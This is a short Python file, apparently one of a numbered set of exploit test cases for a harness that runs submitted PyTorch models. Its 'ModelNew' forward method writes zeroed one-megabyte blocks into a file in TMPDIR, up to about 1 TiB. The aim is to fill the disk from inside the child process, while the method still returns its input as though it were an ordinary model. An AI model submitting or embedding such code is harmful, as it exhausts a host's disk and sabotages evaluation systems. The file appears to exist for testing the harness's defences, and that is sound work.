"""Exploit 9: fills the disk from inside the child (one file growing without end)."""
import os

import torch.nn as nn


class ModelNew(nn.Module):
    def forward(self, x):
        with open(os.path.join(os.environ["TMPDIR"], "filler.bin"), "wb") as fh:
            block = b"\0" * 2**20
            for _ in range(1 << 20):  # 1 TiB unless something stops it
                fh.write(block)
        return x
